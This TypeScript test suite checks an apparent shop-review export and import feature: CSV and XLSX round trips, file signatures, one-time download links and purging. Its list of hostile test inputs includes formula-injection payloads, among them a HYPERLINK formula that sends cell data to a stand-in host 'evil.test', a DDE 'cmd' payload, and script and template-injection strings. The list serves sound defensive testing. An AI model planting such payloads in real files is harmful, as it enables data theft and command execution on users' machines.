import Papa from 'papaparse'
import { streamXlsxRows } from 'hucre/xlsx'
import sharp from 'sharp'
import { v7 as uuidv7 } from 'uuid'
import type { Review, ReviewMedia, Shop } from '../../generated/prisma/client.ts'
import { inTransaction } from '../../core/context.ts'
import { readTranslations, storeTranslations } from '../reviews/translations.ts'
import { saveImage } from '../../core/files/unused-files.ts'
import { checkExports } from '../../testing/checks/check-exports.ts'
import { importClient, type ImportClient } from '../../testing/import-client.ts'
import { plans } from '../../../rules/plans.ts'
import { createWorld, type World } from '../../testing/world.ts'
import { runWork } from '../../core/background/claim.ts'
import { startReviewExport } from './export.ts'
import { purgeExports } from './purge.ts'
import { exportWork } from './run.ts'
import { watchExport } from './watch.ts'
import { FileSignature } from './file-signature.ts'
import { makeSigner } from '../../core/signing.ts'

let world: World
let client: ImportClient
beforeAll(async () => {
  world = await createWorld()
  client = importClient(world)
})
afterAll(() => world.close())
afterEach(async () => {
  for (const shop of [world.shop, world.otherShop]) {
    const where = { where: { shopId: shop.id } }
    for (const table of [
      'reviewMedia',
      'review',
      'importProblem',
      'import',
      'reviewCount',
      'productReviewCount',
      'product',
      'reviewExport',
    ] as const) {
      await (client.db()[table] as unknown as { deleteMany(args: object): Promise<unknown> }).deleteMany(where)
    }
  }
})

/** Texts that a spreadsheet would calculate or a careless reader would change. */
const nasty = [
  '=1+1',
  '=HYPERLINK("http://evil.test?x="&A1,"ok")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1＋1',
  '－1',
  '＠x',
  `'=1+1`,
  `''=1+1`,
  `'`,
  `'plain`,
  `"=1+1"`,
  '"";=1+1;"',
  'a;=1+1;b',
  'a\t=1+1\tb',
  'a,=1+1,b',
  'a|=1+1|b',
  'a\n=1+1\nb',
  'a\r\n-1\r\nb',
  '- one\n- two',
  '0012',
  '1e5',
  '1,5',
  'TRUE',
  '2026-03-01',
  '#N/A',
  '#REF!',
  '_x0041_',
  '_x005F_x0041_',
  '_x000D_',
  '<script>alert(1)</script>',
  '&amp;<b>',
  ']]>',
  '{{7*7}}',
  '%s',
  '\\',
  '😀 👩‍👩‍👧‍👦 🏳️‍🌈',
  '\u202Eright to left\u202C',
  '\u2066isolated\u2069',
  'مرحبا',
  'テスト',
  ' leading',
  'trailing ',
  '  ',
  ' \n ',
  '\u0001\u001F',
  '\u0085\u2028\u2029',
  '\uFFFE\uFFFF',
  'candor-signature:x',
  `x${'"'.repeat(50)}`,
  '=\u0041'.repeat(1_000),
  'ü'.repeat(5_000),
  '😀'.repeat(2_500),
]

async function addReview(shop: Shop, values: Partial<Review>): Promise<string> {
  const now = world.app.deps.now()
  const id = uuidv7()
  await client.db().review.create({
    data: {
      rate: 5,
      status: 'published',
      origin: 'customer',
      source: 'customer',
      createdAt: now,
      enteredAt: now,
      updatedAt: now,
      ...values,
      shopId: shop.id,
      id,
    } as never,
  })
  return id
}

async function exported(
  format: 'csv' | 'xlsx',
  filter: object = { status: ['published', 'pending', 'hidden', 'rejected', 'deleted'] },
): Promise<Buffer> {
  const { id } = await startReviewExport(world.ctx, { format, filter })
  await world.runJobs()
  const { data } = (await world.rest('GET', `/reviews/export/${id}`)).json<{
    data: { status: string; downloadUrl: string }
  }>()
  expect(data).toMatchObject({ status: 'done' })
  return (await download(data.downloadUrl)).rawPayload
}

const download = (url: string) => world.inject({ method: 'GET', url: url.replace('http://candor.test', '') })

interface Brought {
  status: string
  done: number
  imported: number
  duplicates: number
  bad: number
  source: string
  fileName: string
}

async function bring(file: Buffer, name: string, token = world.otherToken): Promise<Brought> {
  const answer = await client.upload(new Uint8Array(file), { name, token })
  expect(answer.json()).toMatchObject({ success: true })
  const { id } = answer.json<{ data: { id: string } }>().data
  await world.runJobs()
  await world.rest('POST', `/imports/${id}/start`, {
    body: { answers: [{ question: 'unmatched', answer: 'shop' }] },
    token,
  })
  await world.runJobs()
  return (await world.rest('GET', `/imports/${id}`, { token })).json<{ data: Brought }>().data
}

const brought = [
  'rate',
  'title',
  'content',
  'firstName',
  'lastName',
  'email',
  'status',
  'decidedBy',
  'why',
  'origin',
  'source',
  'verifiedBy',
  'edited',
  'featured',
  'pinned',
  'testimonial',
  'incentivized',
  'editRequest',
  'editRequestedAt',
  'beforeTrash',
  'replyContent',
  'replyAt',
  'hasMedia',
  'variantTitle',
  'language',
  'country',
  'location',
  'type',
  'originalRate',
  'createdAt',
  'publishedAt',
] as const

/** Returns the columns that an import must preserve, oldest review first. */
async function reviewsOf(shop: Shop): Promise<Partial<Review>[]> {
  const rows = await client
    .db()
    .review.findMany({ where: { shopId: shop.id }, orderBy: [{ createdAt: 'asc' }, { content: 'asc' }] })
  return rows.map((row) => Object.fromEntries(brought.map((column) => [column, row[column]])))
}

describe.each(['csv', 'xlsx'] as const)('an export as %s', (format) => {
  test('gives an empty shop the same reviews with replies, flags, media and statuses', async () => {
    const { ctx } = world
    const at = (minutes: number) => new Date(Date.UTC(2026, 0, 5, 10, minutes, 7, 123))
    const mug = await client.addProduct('mug', '8123456789012')
    const theirs = await client.addProduct('mug', '8123456789012', world.otherShop)
    const full = await addReview(world.shop, {
      productId: mug,
      rate: 4,
      title: 'Good',
      content: 'Edited text',
      firstName: 'Ann Mary',
      lastName: 'O’Neil',
      email: 'ann@example.test',
      status: 'hidden',
      decidedBy: 'merchant',
      why: { code: 'merchant', params: {} },
      verifiedBy: 'merchant',
      edited: true,
      featured: true,
      pinned: true,
      testimonial: true,
      incentivized: true,
      editRequest: 'confirmed',
      editRequestedAt: at(1),
      replyContent: '=Thanks!',
      replyAt: at(2),
      variantTitle: 'Blue / L',
      language: 'de',
      country: 'DE',
      location: 'Berlin',
      originalRate: '4,0',
      createdAt: at(0),
      publishedAt: at(0),
    })
    await addReview(world.shop, {
      productId: mug,
      content: 'In the bin',
      status: 'deleted',
      beforeTrash: { status: 'pending', decidedBy: 'rule' },
      deletedAt: ctx.now(),
      createdAt: at(3),
      origin: 'guest',
      source: 'guest',
      editRequest: 'denied',
      editRequestedAt: at(4),
    })
    await addReview(world.shop, {
      content: 'By an order',
      verifiedBy: 'order',
      orderId: uuidv7(),
      status: 'pending',
      createdAt: at(4),
    })
    await addReview(world.shop, {
      content: 'Twins',
      firstName: 'Bo',
      createdAt: at(5),
      origin: 'imported',
      source: 'amazon',
      externalId: 'judgeme:rev-1',
      decidedBy: 'import',
    })
    await addReview(world.shop, {
      content: 'Twins',
      firstName: 'Bo',
      createdAt: new Date(at(5).getTime() + 1),
      origin: 'admin',
      source: 'admin',
    })
    for (const [index, text] of nasty.entries())
      await addReview(world.shop, {
        title: text.slice(0, 200).toWellFormed(),
        content: text,
        firstName: text.slice(0, 90).toWellFormed(),
        lastName: index % 2 ? text.slice(0, 90).toWellFormed() : '',
        replyContent: text,
        replyAt: at(3),
        location: text.slice(0, 90).toWellFormed(),
        createdAt: at(10 + index),
      })
    const picture = await saveImage(
      ctx,
      ctx.shop.id,
      await sharp({ create: { width: 30, height: 20, channels: 3, background: '#a00' } })
        .png()
        .toBuffer(),
    )
    await ctx.files.put(`${ctx.shop.id}/${'b'.repeat(64)}/video`, Buffer.from('video'), { contentType: 'video/mp4' })
    const video = {
      kind: 'video' as const,
      key: `${ctx.shop.id}/${'b'.repeat(64)}`,
      posterKey: picture.key,
      seconds: 9,
      width: 640,
      height: 480,
    }
    const media: Partial<ReviewMedia>[] = [
      { key: picture.key, width: 30, height: 20 },
      { key: picture.key, width: 30, height: 20, hidden: true },
      video,
    ]
    const ids = media.map(() => uuidv7())
    await ctx.db.reviewMedia.createMany({
      data: media.map((one, position) => ({
        ...one,
        shopId: ctx.shop.id,
        id: ids[position] as string,
        reviewId: full,
        position,
        createdAt: at(0),
      })),
    })
    await ctx.db.review.updateMany({
      where: { id: full },
      data: {
        hasMedia: true,
        original: { title: '=Old', content: ' Old text\r\n', media: [{ id: ids[1], hidden: false }] },
      },
    })

    const translation = { language: 'en', title: 'In English', text: '=Translated', sourceLanguage: 'de' }
    await inTransaction(ctx, (tx) =>
      storeTranslations(tx, [
        { ...translation, reviewId: full, source: { title: 'Good', content: 'Edited text' } },
        { ...translation, language: 'fr', reviewId: full, source: { title: '', content: 'Old' } },
      ]),
    )

    const file = await exported(format)
    if (format === 'csv') expect(file.subarray(0, 3).toString('hex')).toBe('efbbbf')
    expect(await bring(file, `reviews.${format}`)).toMatchObject({
      status: 'done',
      source: 'candor',
      imported: nasty.length + 5,
      duplicates: 0,
      bad: 0,
    })
    const [before, after] = [await reviewsOf(world.shop), await reviewsOf(world.otherShop)]
    expect(after).toEqual(
      before.map((review) => ({ ...review, verifiedBy: review.verifiedBy === 'order' ? 'none' : review.verifiedBy })),
    )

    const copy = await client.db().review.findFirstOrThrow({
      where: { shopId: world.otherShop.id, content: 'Edited text' },
      include: { media: { orderBy: { position: 'asc' } } },
    })
    expect(copy).toMatchObject({ productId: theirs, externalId: `candor:${full}`, orderId: null })
    const [theirKey, theirPoster] = [
      (key = '') => key.replace(world.shop.id, world.otherShop.id),
      (key = '') => (key ? { posterKey: key.replace(world.shop.id, world.otherShop.id) } : {}),
    ]
    expect(copy.media).toMatchObject(
      media.map(({ hidden = false, key, posterKey, ...one }) => ({
        ...one,
        status: 'ready',
        hidden,
        key: theirKey(key),
        ...theirPoster(posterKey),
      })),
    )
    expect(copy.original).toEqual({
      title: '=Old',
      content: ' Old text\r\n',
      media: [{ id: copy.media[1]?.id, hidden: false }],
    })
    for (const path of [`${copy.media[0]?.key}/medium`, `${copy.media[2]?.key}/video`])
      expect(await ctx.files.about(path)).not.toBeNull()
    const copies = await readTranslations(
      { ...ctx, db: client.db(), shop: { ...world.otherShop, translatedInto: ['en'] } },
      [copy.id],
    )
    expect(copies.get(copy.id)).toEqual([translation])
    const counts = await client
      .db()
      .reviewCount.aggregate({ where: { shopId: world.otherShop.id, source: 'amazon' }, _sum: { count: true } })
    expect(counts._sum.count).toBe(1)

    // A repeated import in either shop adds nothing.
    for (const token of [world.token, world.otherToken])
      expect(await bring(file, `reviews.${format}`, token)).toMatchObject({ imported: 0, duplicates: nasty.length + 5 })
  }, 60_000)

  test('is imported like any other file after an edit', async () => {
    await addReview(world.shop, {
      content: 'Written by a customer',
      verifiedBy: 'merchant',
      pinned: true,
      title: '=x',
      status: 'hidden',
    })
    await addReview(world.shop, { content: 'Thrown away', status: 'deleted', deletedAt: new Date() })
    const file = await exported('csv')
    const edited = Buffer.from(file.toString('utf8').replace('Written by a customer', 'Written by the merchant'))
    expect(await bring(edited, 'reviews.csv')).toMatchObject({ source: 'candor-edited', imported: 2, bad: 0 })
    const [first, second] = await client
      .db()
      .review.findMany({ where: { shopId: world.otherShop.id }, orderBy: { content: 'desc' } })
    expect(first).toMatchObject({
      content: 'Written by the merchant',
      title: '=x',
      origin: 'imported',
      source: 'imported',
      verifiedBy: 'none',
      pinned: false,
      status: 'hidden',
      decidedBy: 'import',
    })
    expect(second).toMatchObject({
      content: 'Thrown away',
      status: 'deleted',
      origin: 'imported',
      deletedAt: world.app.deps.now(),
    })
  })
})

/** Checks a sample of the texts; `npm run bench -- R19` checks all. */
test('spreadsheets calculate no cell of an export and preserve its texts', async () => {
  const { found, missed, caught, tried } = await checkExports(world, { every: 5 })
  expect(found).toEqual([])
  expect(missed).toEqual([])
  expect(caught).toBeGreaterThan(5)
  expect(tried).toBeGreaterThan(10)
})

test('a workbook saved as CSV with other separators and line ends keeps its signature', async () => {
  await addReview(world.shop, { content: 'Two\nlines; and more', title: 'Tea, hot', pinned: true })
  const rows: string[][] = []
  for await (const { values } of streamXlsxRows(new Uint8Array(await exported('xlsx'))))
    rows.push(values.map((value) => String(value ?? '')))
  await client.db().reviewExport.deleteMany({})
  const saved = `\uFEFF${Papa.unparse(rows, { delimiter: ';', newline: '\r\n' })}\r\n`
  expect(await bring(Buffer.from(saved), 'saved.csv')).toMatchObject({ source: 'candor', imported: 1 })
  expect(await client.db().review.findFirst({ where: { shopId: world.otherShop.id } })).toMatchObject({
    content: 'Two\nlines; and more',
    pinned: true,
    origin: 'customer',
  })
})

test.each([
  ['a missing row', (lines: string[]) => lines.toSpliced(1, 1)],
  ['a repeated row', (lines: string[]) => lines.toSpliced(1, 0, lines[1] as string)],
  ['rows in another order', ([header, a, b, ...rest]: string[]) => [header, b, a, ...rest] as string[]],
  ['a forged signature', (lines: string[]) => lines.map((line) => line.replace(/^(candor-signature:\w)./, '$1_'))],
  [
    'the signature of another file',
    (lines: string[]) =>
      lines.map((line) => line.replace(/^candor-signature:[^,]*/, new FileSignature().sign(world.ctx.signer))),
  ],
  [
    'the signature of another secret',
    (lines: string[]) =>
      lines.map((line) =>
        line.replace(/^candor-signature:[^,]*/, new FileSignature().sign(makeSigner('x'.repeat(40)))),
      ),
  ],
  ['no signature', (lines: string[]) => lines.filter((line) => !line.startsWith('candor-signature'))],
])('a file with %s counts as unsigned', async (_name, change) => {
  for (const content of ['One', 'Two', 'Three']) await addReview(world.shop, { content, pinned: true })
  const lines = (await exported('csv')).toString('utf8').trimEnd().split('\n')
  expect(lines).toHaveLength(5)
  expect(await bring(Buffer.from(`${change(lines).join('\n')}\n`), 'r.csv')).toMatchObject({
    source: 'candor-edited',
    bad: 0,
  })
  expect(await client.db().review.count({ where: { shopId: world.otherShop.id, pinned: true } })).toBe(0)
})

describe('an export', () => {
  const document = `mutation ($input: StartReviewExportInput!) { startReviewExport(input: $input) { __typename ... on StartReviewExportSuccess { data { id status format fileName } }
    ... on NotAllowedError { code } ... on InvalidInputError { code } } }`
  const fetchIt =
    'mutation ($id: ID!) { downloadReviewExport(input: { id: $id }) { __typename ... on DownloadReviewExportSuccess { data { url } } ... on NotFoundError { code } ... on NotAllowedError { code } } }'
  const start = async (input: object, token = world.token) =>
    (await world.graphql(document, { input }, token)).data?.startReviewExport as unknown as {
      __typename: string
      code?: string
      data: { id: string }
    }
  const link = async (id: string, token = world.token) =>
    (await world.graphql(fetchIt, { id }, token)).data?.downloadReviewExport as unknown as {
      __typename: string
      code?: string
      data: { url: string }
    }

  test('runs one at a time and shows its progress over GraphQL', async () => {
    await addReview(world.shop, { content: 'A', rate: 2 })
    await addReview(world.shop, { content: 'B' })
    await addReview(world.shop, { content: 'C', status: 'deleted' })
    await world.ctx.db.reviewExport.create({
      data: {
        shopId: world.shop.id,
        id: uuidv7(),
        format: 'csv',
        status: 'running',
        leaseUntil: new Date(Date.now() + 60_000),
        createdAt: new Date(0),
      },
    })
    expect(await start({ format: 'CSV' })).toEqual({ __typename: 'NotAllowedError', code: 'exportRunning' })
    await world.ctx.db.reviewExport.deleteMany({})
    const {
      data: { id },
    } = await start({ format: 'CSV', filter: { rate: [2] } })
    await world.runJobs()
    const { data } = await world.graphql(
      '{ viewer { shop { reviewExports(first: 5) { id format status total done fileName fileKept error } } } }',
    )
    expect(data).toMatchObject({
      viewer: {
        shop: {
          reviewExports: [
            {
              id,
              format: 'CSV',
              status: 'DONE',
              total: 1,
              done: 1,
              fileName: 'reviews-world-2026-03-02.csv',
              fileKept: true,
              error: null,
            },
          ],
        },
      },
    })
    expect((await world.graphql('{ viewer { shop { reviewExports { id } } } }', {}, world.otherToken)).data).toEqual({
      viewer: { shop: { reviewExports: [] } },
    })
  })

  test('has a download link that opens once and never for another shop', async () => {
    await addReview(world.shop, { content: 'Secret' })
    const {
      data: { id },
    } = await start({ format: 'CSV' })
    await world.runJobs()
    expect(await link(id, world.otherToken)).toEqual({ __typename: 'NotFoundError', code: 'notFound' })
    expect((await world.rest('GET', `/reviews/export/${id}`, { token: world.otherToken })).statusCode).toBe(404)
    expect((await world.rest('GET', '/reviews/export/nonsense')).statusCode).toBe(422)
    const {
      data: { url },
    } = await link(id)
    const first = await download(url)
    expect(first.statusCode).toBe(200)
    expect(first.headers).toMatchObject({
      'cache-control': 'no-store',
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': `attachment; filename*=UTF-8''reviews-world-2026-03-02.csv`,
    })
    expect(first.body).toContain('Secret')
    expect((await download(url)).statusCode).toBe(404)
    expect((await download(`${url}x`)).statusCode).toBe(404)
    const own = world.ctx.signer.sign(
      'review-export',
      { shopId: world.otherShop.id, of: (await world.ctx.db.reviewExport.findFirstOrThrow()).id, nonce: uuidv7() },
      60,
    )
    expect((await download(`/reviews/exports/${own}`)).statusCode).toBe(404)
  })

  test('uses up its link only by a successful download, once for concurrent requests', async () => {
    const { id } = await startReviewExport(world.ctx, { format: 'csv' })
    await world.runJobs()
    const { downloadUrl } = (await world.rest('GET', `/reviews/export/${id}`)).json<{ data: { downloadUrl: string } }>()
      .data
    const get = () => world.inject({ method: 'GET', url: new URL(downloadUrl).pathname })
    const { files } = world.app.deps
    const { fileKey } = await world.ctx.db.reviewExport.findFirstOrThrow()
    await files.delete(fileKey)
    const gone = await get()
    expect([gone.statusCode, gone.json<{ code: string }>().code]).toEqual([404, 'exportGone'])
    await files.put(fileKey, new TextEncoder().encode('body,rating\n'), { contentType: 'text/csv' })
    const both = await Promise.all([get(), get()])
    expect(both.map(({ statusCode }) => statusCode).sort()).toEqual([200, 404])
    const late = await get()
    expect([late.statusCode, late.json<{ code: string }>().code]).toEqual([404, 'linkExpired'])
  })

  test('is reported by a subscription until it ends', async () => {
    await world.ctx.db.$executeRaw`
      insert into "Review" ("shopId", id, rate, content, status, origin, source, "createdAt", "enteredAt", "updatedAt")
      select ${world.shop.id}::uuid, gen_random_uuid(), 5, 'Text ' || n, 'published', 'guest', 'guest', now(), now(), now() from generate_series(1, 2500) n`
    const { id } = await startReviewExport(world.ctx, { format: 'csv' })
    const seen: string[] = []
    const following = (async () => {
      for await (const { status, done } of watchExport(world.ctx, world.app.parts.pubsub, id))
        seen.push(`${status} ${done}`)
    })()
    await Promise.all([world.runJobs(), following])
    expect(seen[0]).toBe('running 0')
    expect(seen.at(-1)).toBe('done 2500')
    await expect(
      watchExport(world.contextOf(world.otherShop), world.app.parts.pubsub, id).next(),
    ).rejects.toMatchObject({ code: 'notFound' })
  })

  test('is refused with an invalid format or filter', async () => {
    for (const body of [
      {},
      { format: 'pdf' },
      { format: 'csv', filter: 'x' },
      { format: 'csv', filter: { rate: [9] } },
      { format: 'csv', filter: { productIds: ['x'] } },
    ])
      expect((await world.rest('POST', '/reviews/export', { body })).statusCode).toBe(422)
    expect(await client.db().reviewExport.count()).toBe(0)
  })

  test('is kept for a week', async () => {
    const {
      data: { id },
    } = await start({ format: 'CSV' })
    await world.runJobs()
    const row = await world.ctx.db.reviewExport.findFirstOrThrow()
    const later = (days: number) => ({
      ...world.app.deps,
      now: () => new Date(world.app.deps.now().getTime() + days * 86_400_000),
    })
    expect(await purgeExports(later(6.9))).toBe(0)
    expect(await purgeExports(later(7.1))).toBe(1)
    expect(await world.ctx.files.get(row.fileKey)).toBeNull()
    expect(await link(id)).toEqual({ __typename: 'NotFoundError', code: 'exportGone' })
  })

  test('fails if the file store fails, and another one may be started', async () => {
    await addReview(world.shop, { content: 'A' })
    const { id } = await world.ctx.db.reviewExport.create({
      data: {
        shopId: world.shop.id,
        id: uuidv7(),
        format: 'xlsx',
        status: 'running',
        fileKey: 'x',
        createdAt: new Date(),
      },
    })
    const broken = {
      ...world.ctx,
      files: { ...world.ctx.files, put: () => Promise.reject(new Error('full')) },
      log: { ...world.ctx.log, error: () => undefined } as never,
    }
    await runWork(broken, exportWork, id)
    expect(await client.db().reviewExport.findFirst()).toMatchObject({ status: 'failed', error: 'exportFailed' })
    expect((await start({ format: 'CSV' })).__typename).toBe('StartReviewExportSuccess')
    await world.runJobs()
  })
})

test('an export is imported whole on each plan; an edited one has the plan’s limit', async () => {
  const rows = plans.free.maxImportRows + 20
  await world.ctx.db.$executeRaw`
    insert into "Review" ("shopId", id, rate, content, status, origin, source, "createdAt", "enteredAt", "updatedAt")
    select ${world.shop.id}::uuid, gen_random_uuid(), 5, 'Text ' || n, 'published', 'guest', 'guest', '2026-01-05', '2026-01-05', '2026-01-05' from generate_series(1, ${rows}::int) n`
  const file = await exported('csv')
  await client.db().shop.update({ where: { id: world.otherShop.id }, data: { plan: 'free' } })
  world.app.deps.publish(world.otherShop.id, 'shop', world.otherShop.id)
  const edited = Buffer.from(file.toString('utf8').replace('Text 7', 'Text seven'))
  const upload = async (bytes: Buffer) => {
    const { data } = (await client.upload(new Uint8Array(bytes), { name: 'r.csv', token: world.otherToken })).json<{
      data: { id: string }
    }>()
    return (await world.rest('GET', `/imports/${data.id}`, { token: world.otherToken })).json<{
      data: { questions: { id: string }[] }
    }>().data
  }
  expect((await upload(edited)).questions).toMatchObject([{ id: 'firstN' }])
  expect((await upload(file)).questions).toEqual([])
  expect(await bring(file, 'r.csv')).toMatchObject({ status: 'done', imported: rows })
  await client.db().shop.update({ where: { id: world.otherShop.id }, data: { plan: 'advanced' } })
})
